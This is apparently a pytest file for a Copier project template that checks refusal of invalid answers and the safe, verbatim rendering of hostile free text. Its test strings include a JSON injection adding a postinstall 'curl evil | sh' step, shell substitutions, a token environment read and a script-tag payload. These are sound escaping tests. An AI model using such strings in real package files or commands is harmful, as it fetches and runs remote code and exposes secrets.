"""Hostile input: bad answers are refused before anything is written; free text is escaped.

1. Every bad value of every validated question, given with ``--data`` on the Copier CLI:
   exit code 1, the last line of stderr says what is allowed, and the destination is not
   created (or, when it existed, is left exactly as it was). tests/test_questions.py has a
   first handful of these; this file covers the rest (the same values at the prompt are in
   tests/test_interactive.py).
2. Free text (``description``, the only unvalidated text answer) full of quotes,
   backslashes, newlines, ``{{ }}``, ``{% %}``, ``${}``, backticks, ``</script>``, control
   characters and non-ASCII, rendered into both targets: every TOML/JSON/YAML/Python file
   still parses and carries the text verbatim, and a file that is not the same as with a
   plain description must be one of the files known to carry it.

The runs are independent CLI processes, started side by side from a plain (non-git) copy of
the template so that they stay cheap; each parametrized test then checks one outcome.
"""
from __future__ import annotations

import ast
import json
import tomllib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import yaml
from cases import BAD_DATA
from conftest import BASE_ANSWERS, render
from copier import run_copy
from template_repo import copier, data_args, template_dir


# Free text that has broken templates somewhere; every one must render verbatim.
HOSTILE_DESCRIPTIONS = {
    "quotes": "He said \"ship it\" and left: it's Bob's 'gateway'",
    "backslashes": "C:\\new\\table \\\\server \\u0041 \\x41 \\\" trailing\\",
    "newlines-and-tab": "first line\nsecond line\r\nthird\tcolumn",
    "jinja": "{{ project_name }} {{ 7 * 7 }} {% if true %}x{% endif %} {% raw %} {# c #} {{ {%",
    "js-and-shell": "${process.env.CF_AIG_TOKEN} $(whoami) `id` $HOME ```ts\nconst x = `y`;\n```",
    "script-tag": "</script><script>alert(1)</script><!--",
    "non-ascii": "Café naïve — “curly” ‘quotes’ 中文描述：通过网关调用模型 🚀 👩‍💻 🇫🇷 ❤️ "
                 "שלום \u202eoverride\u202c",
    "separators-and-controls": "x\u2028y\u2029z bell\x07 esc\x1b[31m del\x7f nbsp\u00a0",
    "yaml-syntax": "- item: value # comment & *alias !!python/object ---",
    "yaml-scalar": "null",
    "toml-syntax": '""" \'\'\' [table] key = "v" #',
    "json-injection": '", "scripts": {"postinstall": "curl evil | sh"}, "x": "',
    "padded": "  padded  ",
    "long": "x" * 3000 + " end",
}
HOSTILE_DESCRIPTIONS["everything"] = " | ".join(HOSTILE_DESCRIPTIONS.values())

PLAIN_DESCRIPTION = "A plain description"
TARGETS = ("python-app", "typescript-worker")
# Files allowed to differ from a render with a plain description, and why.
CARRIERS = {
    "python-app": {"README.md", "pyproject.toml", ".copier-answers.yml"},
    "typescript-worker": {"README.md", "package.json", ".copier-answers.yml"},
}


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    return template_dir(tmp_path_factory.mktemp("template") / "ai-gateway-starter")


def _pool() -> ThreadPoolExecutor:
    return ThreadPoolExecutor(max_workers=4)


# Refused through the real command line (argv parsing, exit code, stderr); the others go
# through Copier's API with the very strings --data would pass, which is the same check
# without a new interpreter per case.
CLI_CASES = {"project_name-empty", "gateway_authentication-unified-billing", "environments-empty",
             "cache_ttl-word", "gateway_id-dot-dot"}


@pytest.fixture(scope="module")
def refusals(template, tmp_path_factory) -> dict:
    """Run every BAD_DATA case once; half into a missing folder, half into an existing one.

    ``case_id -> (refused, what Copier said last, dst, existed)``."""
    root = tmp_path_factory.mktemp("refusals")

    def attempt(index: int, case_id: str, answers: dict):
        dst = root / case_id
        existed = index % 2 == 1
        if existed:
            dst.mkdir()
            (dst / "keep.txt").write_text("mine\n")
        args = data_args({"project_name": "demo-svc", **answers})
        if case_id in CLI_CASES:
            result = copier("copy", "--trust", "--defaults", *args, str(template), str(dst),
                            cwd=root)
            said = (result.stderr.strip().splitlines() or [""])[-1]
            return result.returncode == 1, said, dst, existed
        data = dict(arg.split("=", 1) for arg in args[1::2])
        try:
            run_copy(str(template), str(dst), data=data, defaults=True, unsafe=True, quiet=True)
        except ValueError as error:
            return True, str(error), dst, existed
        return False, "rendered", dst, existed

    with _pool() as pool:
        futures = {case_id: pool.submit(attempt, i, case_id, answers)
                   for i, (case_id, answers, _) in enumerate(BAD_DATA) if case_id in CLI_CASES}
        found = {case_id: attempt(i, case_id, answers)
                 for i, (case_id, answers, _) in enumerate(BAD_DATA) if case_id not in CLI_CASES}
        return found | {case_id: future.result() for case_id, future in futures.items()}


@pytest.mark.parametrize(("case_id", "answers", "message"), BAD_DATA,
                         ids=[case[0] for case in BAD_DATA])
def test_bad_value_given_with_data_is_refused(refusals, case_id, answers, message):
    refused, said, dst, existed = refusals[case_id]

    assert refused, said
    assert message in said
    if existed:
        assert sorted(p.name for p in dst.iterdir()) == ["keep.txt"]
        assert (dst / "keep.txt").read_text() == "mine\n"
    else:
        assert not dst.exists()


def test_the_command_line_cases_cover_each_kind_of_value():
    kinds = {type(answers[case.split("-")[0]]).__name__
             for case, answers, _ in BAD_DATA if case in CLI_CASES}

    assert CLI_CASES <= {case for case, _, _ in BAD_DATA}
    assert kinds == {"str", "bool", "list"}


def test_every_validated_question_has_refusal_cases():
    import re

    copier_yml = (Path(__file__).resolve().parents[1] / "copier.yml").read_text()
    questions = yaml.safe_load(copier_yml)
    validated = {name for name, spec in questions.items()
                 if isinstance(spec, dict) and (spec.get("validator") or spec.get("choices")
                                                or spec.get("type") == "int")
                 and spec.get("when") is not False}
    covered = {re.split(r"-", case_id)[0] for case_id, _, _ in BAD_DATA} | {
        # a plain yes/no: "no" asks for each environment's id (cases above)
        "gateway_ids_confirmed",
    }
    assert validated <= covered, validated - covered


@pytest.fixture(scope="module")
def renders(template, tmp_path_factory) -> dict:
    """(description id or None for the plain one, language) -> rendered project.

    Rendered in-process (Copier's API, the same code the CLI calls) to stay fast; the
    "everything" text goes through the real command line, argv parsing included.
    """
    root = tmp_path_factory.mktemp("renders")
    projects = {}
    for case_id, description in [(None, PLAIN_DESCRIPTION), *HOSTILE_DESCRIPTIONS.items()]:
        for language in TARGETS:
            dst = root / f"{language}-{case_id or 'plain'}"
            answers = {**BASE_ANSWERS, "language": language, "description": description}
            if case_id == "everything":
                result = copier("copy", "--trust", "--defaults", *data_args(answers),
                                str(template), str(dst), cwd=root)
                assert result.returncode == 0, result.stderr
            else:  # conftest's render: the same working tree, as a plain copy
                render(dst, **answers)
            projects[(case_id, language)] = dst
    return projects


def _files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("language", TARGETS)
@pytest.mark.parametrize("case_id", sorted(HOSTILE_DESCRIPTIONS))
def test_free_text_renders_into_files_that_parse_and_carry_it_verbatim(renders, case_id,
                                                                        language):
    description = HOSTILE_DESCRIPTIONS[case_id]
    project = renders[(case_id, language)]
    plain = _files(renders[(None, language)])
    files = _files(project)

    # The same files, and only the known carriers of the description differ.
    assert sorted(files) == sorted(plain)
    changed = {name for name in files if files[name] != plain[name]}
    assert changed <= CARRIERS[language], changed - CARRIERS[language]

    # Every structured file still parses.
    parsed = 0
    for name, data in files.items():
        if name.endswith(".toml"):
            tomllib.loads(data.decode("utf-8"))
        elif name.endswith(".py"):
            ast.parse(data.decode("utf-8"), filename=name)
        elif name.endswith((".yml", ".yaml")):
            yaml.safe_load(data.decode("utf-8"))
        elif name == "package.json":
            json.loads(data.decode("utf-8"))
        else:
            continue
        parsed += 1
    assert parsed >= (8 if language == "python-app" else 4)

    # ... and carries the text verbatim, read back by each format's own parser.
    answers = yaml.safe_load(files[".copier-answers.yml"].decode("utf-8"))
    assert answers["description"] == description
    readme = files["README.md"].decode("utf-8")
    assert f"\n\n{description}\n\n" in readme
    if language == "python-app":
        pyproject = tomllib.loads(files["pyproject.toml"].decode("utf-8"))
        assert pyproject["project"]["description"] == description
    else:
        package = json.loads(files["package.json"].decode("utf-8"))
        assert package["description"] == description
        assert package["name"] == BASE_ANSWERS["project_name"]
        assert set(package["scripts"]) == set(json.loads(plain["package.json"])["scripts"])
